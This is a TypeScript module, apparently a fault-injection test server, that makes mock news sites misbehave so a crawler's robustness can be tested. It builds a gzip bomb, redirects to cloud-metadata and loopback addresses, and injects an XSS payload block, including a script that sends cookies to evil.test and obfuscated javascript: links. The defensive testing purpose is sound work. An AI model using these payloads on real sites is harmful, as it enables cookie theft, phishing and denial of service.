import { once } from "node:events";
import type { ServerResponse } from "node:http";
import { gzipSync } from "node:zlib";
import iconv from "iconv-lite";
import type { Answer } from "./answer.ts";
import type { Site } from "./site.ts";

export const faultNames = [
  "412",
  "503",
  "redesign",
  "broken-feed",
  "endless-redirect",
  "private-redirect",
  "slow",
  "huge",
  "zip-bomb",
  "charset-lie",
  "many-links",
  "script",
  "gone",
] as const;
export type FaultName = (typeof faultNames)[number];

/** What a body's site is told to do from now on. */
export interface SiteFault {
  /** mee or mee.test */
  host: string;
  /** within the site, exactly, or all that begins so where it ends with *; left out: the whole site */
  path?: string;
  /** null: all is well again */
  fault: FaultName | null;
}

/** Where nobody outside may be sent: metadata of clouds, the machine itself, and both by IPv6 transition forms (RFC 4291, 6052). */
export const privateTargets = [
  "http://169.254.169.254/latest/meta-data/",
  "http://127.0.0.1:1/",
  "http://[::ffff:10.0.0.1]/",
  "http://[64:ff9b::a9fe:a9fe]/",
];

/** The cookie that the script of the challenge would set; who runs no script never has it. */
const clearance = "clearance=9f2c41";
const hugeSize = 50 * 1024 * 1024;
let bomb: Buffer | null = null;

/** Answers in the place of the site; false where the fault is one of contents. `asked`: how often this fault was asked before. */
export function attack(
  fault: FaultName,
  response: ServerResponse,
  { path, cookie, asked }: { path: string; cookie: string; asked: number },
): boolean {
  const html = { "Content-Type": "text/html; charset=utf-8" };
  switch (fault) {
    case "412":
      if (cookie.includes(clearance)) return false;
      response.writeHead(412, { ...html, "Set-Cookie": "challenge=1; path=/; HttpOnly", "Cache-Control": "no-store" });
      response.end(
        `<html><head><meta charset="utf-8"><script>document.cookie=["clearance","9f2c"+41].join("=")+"; path=/";location.reload()</script></head><body></body></html>`,
      );
      return true;
    case "503":
      response.writeHead(503, { ...html, "Retry-After": "120" });
      response.end("<html><body><h1>系统维护中</h1></body></html>");
      return true;
    case "gone":
      response.writeHead(410, html);
      response.end("<html><body><h1>栏目已撤销</h1></body></html>");
      return true;
    case "endless-redirect": {
      const hop = Number(path.match(/[?&]hop=(\d+)/)?.[1] ?? 0) + 1;
      response.writeHead(302, { ...html, Location: `?hop=${hop}` });
      response.end();
      return true;
    }
    case "private-redirect":
      response.writeHead(302, { ...html, Location: privateTargets[asked % privateTargets.length] ?? "" });
      response.end();
      return true;
    case "slow":
      drip(response);
      return true;
    case "huge":
      stream(response).catch(() => response.destroy());
      return true;
    case "zip-bomb": {
      response.writeHead(200, { ...html, "Content-Encoding": "gzip" });
      // Members of a gzip file follow each other (RFC 1952, 2.2): 160 MB from about 160 KB.
      bomb ??= gzipSync(Buffer.alloc(8 * 1024 * 1024, " "), { level: 9 });
      response.end(Buffer.concat(Array.from({ length: 20 }, () => bomb ?? Buffer.alloc(0))));
      return true;
    }
    default:
      return false;
  }
}

/** A byte now and then, for ever. */
function drip(response: ServerResponse): void {
  response.writeHead(200, { "Content-Type": "text/html; charset=utf-8" });
  response.write("<html><body>");
  const timer = setInterval(() => response.write(" "), 200);
  response.on("close", () => clearInterval(timer));
}

async function stream(response: ServerResponse): Promise<void> {
  response.writeHead(200, { "Content-Type": "text/html; charset=utf-8" });
  const chunk = Buffer.from(`<p>${"污染防治".repeat(5000)}</p>\n`);
  let open = true;
  response.on("close", () => {
    open = false;
    response.emit("drain");
  });
  for (let sent = 0; sent < hugeSize && open; sent += chunk.length)
    if (!response.write(chunk) && open) await once(response, "drain");
  if (open) response.end();
}

/** Changes what a site would have answered. */
export function spoil(fault: FaultName, answer: Answer): Answer {
  const { content } = answer;
  if (fault === "broken-feed" && answer.is === "feed")
    return { ...answer, modified: null, content: content.slice(0, Math.floor(content.length * 0.6)) };
  if (typeof content !== "string") return answer;
  if (fault === "charset-lie") return { ...answer, modified: null };
  if (fault === "many-links" && answer.is === "list") {
    const links = Array.from(
      { length: 100_000 },
      (_, index) => `<li><a href="./x/t20160401_${index}.html">通知${index}</a><span>2016-04-01</span></li>`,
    );
    const full = content.replace(/<(ul|table)[^>]*>/, (tag) => `${tag}${links.join("\n")}`);
    return { ...answer, modified: null, content: full };
  }
  if (fault === "script") {
    const [head = "", ...rest] = content.split(/(?<=<div class="(?:TRS_Editor|txt|list-box|article-content)"[^>]*>)/);
    return {
      ...answer,
      modified: null,
      content: rest.length > 0 ? head + hostile + rest.join("") : content.replace("</body>", `${hostile}</body>`),
    };
  }
  return answer;
}

const hostile = `<script>document.title="stolen";fetch("//evil.test/?"+document.cookie)</script>
<img src="x" onerror="alert(1)"><svg onload="alert(2)"><circle r="1"/></svg>
<a href="javascript:alert(3)">通知</a><a href="&#106;ava&#115;cript:alert(4)">公告</a><a href="data:text/html,<script>alert(5)</script>">附件</a>
<iframe src="https://evil.test/"></iframe><object data="evil.swf"></object><base href="https://evil.test/">
<form action="https://evil.test/"><input name="password" type="password"></form><meta http-equiv="refresh" content="0;url=https://evil.test/">
`;

/** Bytes and declared charset of a text; with a lie the header says what the bytes are not, and so does the page of a UTF-8 site. */
export function encode(site: Site, text: string, lies: boolean): { bytes: Buffer; charset: string | null } {
  if (!lies) return { bytes: iconv.encode(text, site.encoding), charset: site.headerCharset };
  if (site.encoding === "gb18030") return { bytes: iconv.encode(text, "gb18030"), charset: "utf-8" };
  return { bytes: Buffer.from(text.replace('<meta charset="utf-8">', '<meta charset="gb2312">')), charset: "gb2312" };
}
